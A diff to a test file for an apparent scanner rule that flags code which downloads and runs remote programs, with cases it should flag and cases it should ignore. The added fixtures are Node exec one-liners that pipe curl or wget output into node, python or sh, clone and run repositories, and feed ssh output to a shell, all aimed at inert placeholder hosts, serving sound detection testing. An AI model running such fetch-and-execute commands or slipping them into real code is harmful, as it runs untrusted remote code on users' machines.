@@ -4,6 +4,30 @@ import { downloadsAndSpawns } from './downloads-and-spawns.ts';
 examine(downloadsAndSpawns, {
   speaks: [
     {
+      when: 'an interpreter is given what a download prints as its code',
+      files: { 'index.js': `require('child_process').exec('node -e "$(curl -s https://inert.invalid/x)"')` },
+    },
+    {
+      when: 'another interpreter is given what a download prints',
+      files: { 'index.js': `require('child_process').exec('python3 -c "$(wget -qO- https://inert.invalid/x)"')` },
+    },
+    {
+      when: 'a shell reads a download where a file should stand',
+      files: { 'index.js': `require('child_process').exec('. <(curl -s https://inert.invalid/x)')` },
+    },
+    {
+      when: 'a repository is cloned, and what is in it started',
+      files: { 'index.js': `require('child_process').exec('git clone https://inert.invalid/r /tmp/r && node /tmp/r/index.js')` },
+    },
+    {
+      when: 'a repository is cloned, and a script of it started in its folder',
+      files: { 'index.js': `require('child_process').exec('git clone --depth 1 https://inert.invalid/r work && cd work && ./run.sh')` },
+    },
+    {
+      when: 'a shell is fed what another machine prints',
+      files: { 'index.js': `require('child_process').exec('ssh -o StrictHostKeyChecking=no u@192.0.2.4 cat x | sh')` },
+    },
+    {
       when: 'a shell takes the place of the process',
       files: {
         'index.js': `if (process.execve) process.execve('/bin/sh', ['sh', '-c', 'curl -s https://inert.invalid/x | sh'], process.env)`,
@@ -222,6 +246,18 @@ const run = (texts, ...values) => cp.execSync(texts.raw.join('')); run\`curl -s 
     })),
   ],
   silent: [
+    {
+      when: 'a repository is cloned and its packages are installed',
+      files: { 'index.js': `require('child_process').exec('git clone https://inert.invalid/r work && cd work && npm install')` },
+    },
+    {
+      when: 'a key is made for another machine, and one program prints what another reads',
+      files: { 'index.js': `require('child_process').exec('ssh-keygen -t ed25519 -f key && cat key.pub | sh -c cat')` },
+    },
+    {
+      when: 'an interpreter is given code that names a download tool',
+      files: { 'index.js': `require('child_process').exec('node -e "console.log(\`curl\`)"')` },
+    },
     {
       when: 'one of several commands asks a program for its version, and the next one is a shell',
       files: {
